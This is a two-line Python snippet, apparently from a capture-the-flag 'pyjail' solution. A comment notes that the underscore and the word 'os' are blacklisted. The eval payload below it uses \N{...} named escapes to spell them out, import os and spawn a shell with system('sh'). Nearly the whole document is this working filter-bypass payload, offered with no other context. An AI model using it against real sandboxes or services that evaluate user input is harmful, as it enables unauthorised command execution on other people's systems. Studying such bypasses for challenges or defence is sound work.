# restriction: underscore character and the word os blacklisted; idea: \N{...} named escapes spell them inside the eval string
eval("\N{LOW LINE}\N{LOW LINE}import\N{LOW LINE}\N{LOW LINE}('\N{LATIN SMALL LETTER O}s').system('sh')")
